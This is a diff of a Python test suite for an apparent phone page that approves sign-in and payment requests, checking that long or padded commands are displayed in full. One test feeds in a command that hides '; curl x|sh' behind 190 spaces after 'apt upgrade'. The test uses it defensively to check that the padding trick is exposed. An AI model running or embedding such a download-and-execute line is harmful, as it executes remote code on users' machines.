@@ -3,7 +3,7 @@
 import hashlib
 import unittest
 
-from phone_page_case import PhonePageTest
+from phone_page_case import PhonePageCase
 
 # As DisplayTextTests.whatIsNotSeenIsNamed has them: the page and the service name the same.
 NAMED = [
@@ -39,14 +39,14 @@ BROKEN = """
 """
 
 
-class Words(PhonePageTest):
+class Words(PhonePageCase):
     def facts(self):
         self.card()
         return self.browser.script(FACTS)
 
     def test_spaces_push_no_part_of_a_command_out_of_sight(self):
         self.register()
-        sign_in = self.office.sign_in(self.user, command="sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'")
+        sign_in = self.world.sign_in(self.user, command="sh -c 'apt upgrade" + " " * 190 + "; curl x|sh'")
         self.assertIn(["Command", "sh -c 'apt upgrade‹190 spaces›; curl x|sh'"], self.facts())
         # What is signed is the command as it came.
         self.assertEqual(self.approve(sign_in), "active")
@@ -55,7 +55,7 @@ class Words(PhonePageTest):
         self.register()
         for start in range(0, len(NAMED), 6):
             some = NAMED[start : start + 6]
-            sign_in = self.office.sign_in(self.user, **{f"k{index}": text for index, (text, _) in enumerate(some)})
+            sign_in = self.world.sign_in(self.user, **{f"k{index}": text for index, (text, _) in enumerate(some)})
             self.assertEqual(self.facts()[4:], [[f"“k{index}”", shown] for index, (_, shown) in enumerate(some)])
             self.assertEqual(self.approve(sign_in), "active")
             self.browser.misses(".request")
@@ -63,7 +63,7 @@ class Words(PhonePageTest):
     def test_of_a_long_command_both_ends_are_shown_and_what_is_left_out_is_said(self):
         self.register()
         command = "begin " + "x" * 2000 + " end"
-        sign_in = self.office.sign_in(self.user, command=command)
+        sign_in = self.world.sign_in(self.user, command=command)
         facts = dict(self.facts())
         self.assertEqual(facts["Command’s beginning"], command[:500])
         self.assertEqual(facts["Command’s end"], command[-500:])
@@ -74,7 +74,7 @@ class Words(PhonePageTest):
 
     def test_a_thousand_characters_are_shown_whole(self):
         self.register()
-        self.office.sign_in(self.user, command="y" * 1000)
+        self.world.sign_in(self.user, command="y" * 1000)
         self.assertIn(["Command", "y" * 1000], self.facts())
         self.assertNotIn("left out", self.browser.says(".request"))
 
@@ -83,7 +83,7 @@ class Words(PhonePageTest):
         self.browser.resize("phone-320")
         self.addCleanup(self.browser.resize, "phone-390")
         names = {"beneficiary_account_of_the_payment": "DE02 1203 0000 0000 2020 51", "recipient": "Bob"}
-        sign_in = self.office.sign_in(self.user, host="shop", service=None, user=None, tty=None, amount="20 EUR", **names)
+        sign_in = self.world.sign_in(self.user, host="shop", service=None, user=None, tty=None, amount="20 EUR", **names)
         self.assertNotIn("sign-in", self.browser.says(".request", "Transaction on shop").lower())
         self.assertEqual(self.browser.says("#requests-title"), "Requests")
         self.assertNotIn("sign-in", self.browser.find("#announcement").get_attribute("textContent").lower())
